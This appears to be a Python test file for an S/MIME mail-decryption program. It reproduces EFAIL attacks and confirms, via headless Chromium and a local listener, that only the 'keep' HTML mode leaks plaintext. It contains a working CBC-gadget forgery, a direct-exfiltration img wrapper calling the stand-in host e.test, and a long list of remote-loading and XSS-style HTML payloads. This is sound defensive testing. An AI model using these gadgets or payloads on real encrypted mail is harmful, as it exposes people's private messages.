"""EFAIL: messages whose CBC blocks were changed on their way, opened by the program and shown in Chromium.

Whatever is asked of hosts in .test ends at a listener here, which counts. Scripts may run, pictures load:
what holds here holds in every mail client.
"""

import email
import email.policy
import html
import http.server
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import unittest

from program import Home, Owner, openssl

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
SECRET = b"the-code-is-4711"

# Each loads by itself where it is shown as it is.
LOADING = [
    "<img src=http://e.test/>", "<img srcset='http://e.test/ 2x'>", "<image src=http://e.test/>",
    "<body background=http://e.test/>", "<table background=http://e.test/><tr><td>x</table>",
    "<input type=image src=http://e.test/>", "<video poster=http://e.test/></video>", "<embed src=http://e.test/>",
    "<video src=http://e.test/></video>", "<audio preload=auto src=http://e.test/></audio>",
    "<picture><source srcset=http://e.test/><img></picture>", "<iframe src=http://e.test/></iframe>",
    "<object data=http://e.test/></object>", "<link rel=stylesheet href=http://e.test/>",
    "<link rel=icon href=http://e.test/><link rel=preload as=image href=http://e.test/>",
    "<base href=http://e.test/><img src=x>", "<meta http-equiv=refresh content='0;url=http://e.test/'>",
    "<iframe srcdoc='&lt;img src=http://e.test/&gt;'></iframe>", "<p style='background:url(http://e.test/)'>x",
    "<p style='background:u\\72l(http://e.test/)'>x", "<p style='list-style:url(http://e.test/);display:list-item'>x",
    "<p style='background:image-set(\"http://e.test/\" 1x)'>x", "<style>@import 'http://e.test/';</style>",
    "<p style='border:9px solid;border-image:url(http://e.test/) 9'>x", "<p style='cursor:url(http://e.test/),auto'>x",
    "<style>@font-face{font-family:f;src:url(http://e.test/)}</style><p style='font-family:f'>x",
    "<style>p::after{content:url(http://e.test/)}</style><p>x", "<script src=http://e.test/></script>",
    "<script>new Image().src='http://e.test/'</script>", "<img src=x onerror=\"new Image().src='http://e.test/'\">",
    "<body onload=\"new Image().src='http://e.test/'\">", "<svg onload=\"new Image().src='http://e.test/'\">",
    "<svg><image href=http://e.test/ /></svg>", "<svg><image xlink:href=http://e.test/ /></svg>",
    "<svg><style>@import 'http://e.test/';</style></svg>", "<svg><use href=http://e.test/#x /></svg>",
    "<noscript><p title=\"</noscript><img src=http://e.test/>\">", "<!--><img src=http://e.test/>-->",
    "<form><math><mtext></form><form><mglyph><style></math><img src=http://e.test/>", "<math><img src=http://e.test/>",
    "<svg></p><style><a id=\"</style><img src=http://e.test/>\">", "<img/src=http://e.test/>",
    "<p title='><img src=http://e.test/>'>'><img src=http://e.test/>", "<![CDATA[><img src=http://e.test/>]]>",
]


def html_part(text, charset="utf-8"):
    return f"Content-Type: text/html; charset={charset}\r\n\r\n".encode() + text.encode(charset)


def multipart(*parts, kind="mixed"):
    body = b"".join(b"--=b\r\n" + part + b"\r\n" for part in parts)
    return f'Content-Type: multipart/{kind}; boundary="=b"\r\n\r\n'.encode() + body + b"--=b--\r\n"


def encrypt(entity):
    return openssl("cms", "-encrypt", "-binary", "-aes-256-cbc", "-outform", "DER", alice.certificate, input=entity)


def decrypt(cms):
    return openssl("cms", "-decrypt", "-inform", "DER", "-inkey", alice.key, "-recip", alice.certificate, input=cms)


def message(cms):
    return (b"From: bob@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + openssl("base64", input=cms).replace(b"\n", b"\r\n"))


def with_cbc_gadget(cms, at, blocks):
    """Writes blocks of 16 octets into the plaintext, from block number at on, each behind a block that nobody can
    choose, knowing nothing but that the plaintext begins with "Content-Type: te" (EFAIL, 4.2)."""
    for found in re.finditer(rb"\x04\x10(.{16})\x80(?:[\x00-\x7f]|\x81.|\x82..)", cms, re.DOTALL):
        if (len(cms) - found.end()) % 16 == 0:
            vector, start = found[1], found.end()
    first = cms[start:start + 16]
    known = int.from_bytes(vector, "big") ^ int.from_bytes(b"Content-Type: te", "big")
    position = start + 16 * at
    for block in blocks:
        before = (known ^ int.from_bytes(block, "big")).to_bytes(16, "big")
        cms = cms[:position] + before + first + cms[position + 32:]
        position += 32
    return cms


def cbc_gadget():
    """A letter of Bob's, into which someone on its way has put a picture whose address holds the letter."""
    letter = html_part("<p>" + 8 * 16 * "." + SECRET.decode() + ' for "you" only</p>')
    at = letter.index(b"....") // 16 + 1
    for _ in range(200):  # until what nobody can choose does not end the attribute or the address; that is so for one of three
        changed = with_cbc_gadget(encrypt(letter), at, [b'<img another12="', b'"src="//e.test/?'])
        plain = decrypt(changed)
        first, second = plain.index(b"<img a"), plain.index(b'"src=')
        if not set(b'"<#\r\n') & set(plain[first + 16:second] + plain[second + 16:plain.index(SECRET)]):
            return message(changed)
    raise AssertionError("no gadget")


def direct_exfiltration():
    return message(encrypt(multipart(html_part('<img src="http://e.test/?'), b"Content-Type: text/plain\r\n\r\n" + SECRET,
                                     html_part('">'))))


def loading():
    parts = [html_part(text) for text in LOADING]
    picture = LOADING[0]
    parts += [html_part(picture, charset) for charset in ("utf-16", "utf-16-be", "iso-2022-jp")]
    parts += [b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-img src=http://e.test/+AD4-",
              b"Content-Type: application/xhtml+xml\r\n\r\n<html xmlns='http://www.w3.org/1999/xhtml'><body>"
              b"<img src='http://e.test/'/></body></html>",
              b"Content-Type: image/svg+xml\r\n\r\n<svg xmlns='http://www.w3.org/2000/svg'>"
              b"<image href='http://e.test/'/></svg>",
              b"Content-Type: text/xml\r\n\r\n<?xml-stylesheet href='http://e.test/' type='text/css'?><x/>",
              b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + html_part(picture),
              multipart(html_part("<img src=cid:x>" + picture), kind="related").replace(b"=b", b"=c")]
    return message(encrypt(multipart(*parts)))


class Shown:
    """Pages, the requests that they cause, and the browser."""

    def __init__(self, pages):
        self.pages = pages
        self.requests = []
        shown = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                kind, octets = "text/plain", b""
                if self.headers.get("Host", "").startswith("pages.test"):
                    name = self.path[1:]
                    if name == "index":
                        frames = (f'<iframe src="/{i}"></iframe>' for i in range(len(shown.pages)))
                        kind, octets = "text/html", "".join(frames).encode()
                    elif name.isdecimal() and int(name) < len(shown.pages):
                        kind, octets = shown.pages[int(name)]
                else:
                    shown.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(octets)))
                self.end_headers()
                self.wfile.write(octets)

            def log_message(self, *_):
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            self._browse(server.server_address[1])
        finally:
            server.shutdown()
            server.server_close()

    def _browse(self, port):
        with tempfile.TemporaryDirectory(prefix="pkp-chromium-", ignore_cleanup_errors=True) as profile:
            done = subprocess.run(
                [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync",
                 "--disable-dev-shm-usage", f"--user-data-dir={profile}", "--timeout=8000",
                 f"--host-resolver-rules=MAP *.test 127.0.0.1:{port}, MAP * ~NOTFOUND", "--dump-dom",
                 "http://pages.test/index"], capture_output=True, timeout=120, check=False)
        if b"<iframe" not in done.stdout:
            raise AssertionError("Chromium has shown nothing: " + done.stderr.decode(errors="replace")[-2000:])


def pages_of(view):
    """What of a message is shown: each part by itself, and all of them together, as some clients do."""
    pages, together = [], b""
    for part in email.message_from_bytes(view, policy=email.policy.default).walk():
        if part.is_multipart() or part.get_content_type() == "application/pkcs7-mime":
            continue
        octets = part.get_payload(decode=True)
        charset = str(part.get_param("charset") or "utf-8")
        pages.append((f"{part.get_content_type()}; charset={charset}", octets))
        together += octets if part.get_content_type() == "text/html" else html.escape(
            octets.decode(errors="replace")).encode()
    return pages + [("text/html; charset=utf-8", together)]


class Html(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.messages = {"CBC gadget": cbc_gadget(), "direct exfiltration": direct_exfiltration(), "loading": loading()}

    def setUp(self):
        self.home = Home()
        self.addCleanup(self.home.remove)
        self.home.write("keys/alice.pem", alice.pem())

    def views(self, way):
        self.home.configure(f'[decrypt]\nunauthenticated_html = "{way}"\n' if way else "")
        views = {}
        for name, octets in self.messages.items():
            done = self.home.run("open", input=octets)
            self.assertEqual(done.returncode, 0, done.stderr)
            views[name] = done.stdout
        return views

    def test_what_is_kept_sends_the_letter_away(self):
        views = self.views("keep")
        for name in ("CBC gadget", "direct exfiltration"):
            shown = Shown(pages_of(views[name]))
            self.assertTrue(any(SECRET.decode() in request for request in shown.requests), (name, shown.requests))
        shown = Shown(pages_of(views["loading"]))
        self.assertGreater(len(shown.requests), len(LOADING) // 2)

    def test_nothing_leaves_what_is_stripped_or_text(self):
        pages = []
        for way in (None, "strip", "text"):
            views = self.views(way)
            for view in views.values():
                mark = b"html=text" if way == "text" else b"html=stripped"
                self.assertIn(mark, view[:view.index(b"\r\nFrom")])
                pages += pages_of(view)
            self.assertIn(b"text/plain\r\n\r\n" + SECRET, views["direct exfiltration"])
        self.assertGreater(len(pages), 3 * len(LOADING))
        self.assertEqual(Shown(pages).requests, [])

    def test_a_ciphertext_between_parts_stays_closed(self):
        inside = message(encrypt(html_part(SECRET.decode()))).split(b"MIME-Version: 1.0\r\n")[1]
        outer = b"MIME-Version: 1.0\r\n" + multipart(html_part('<img src="http://e.test/?'), inside, html_part('">'))
        self.home.configure()
        done = self.home.run("open", input=outer)
        self.assertEqual((done.returncode, done.stdout), (0, outer))


if __name__ == "__main__":
    if not CHROMIUM:
        print("SKIP: EFAIL in a browser: chromium is not here")
        sys.exit(77)
    with tempfile.TemporaryDirectory(prefix="pkp-") as keys:
        alice = Owner(pathlib.Path(keys), "alice")
        unittest.main()
